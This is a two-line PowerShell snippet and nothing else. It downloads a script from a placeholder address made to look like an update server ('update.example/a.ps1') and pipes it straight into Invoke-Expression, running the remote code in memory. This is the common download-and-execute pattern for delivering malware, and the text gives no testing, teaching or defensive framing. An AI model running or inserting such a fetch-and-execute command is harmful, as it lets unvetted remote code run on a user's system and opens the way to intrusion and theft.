$u = 'https://update.example/a.ps1'
(New-Object System.Net.WebClient).DownloadString($u) | iex
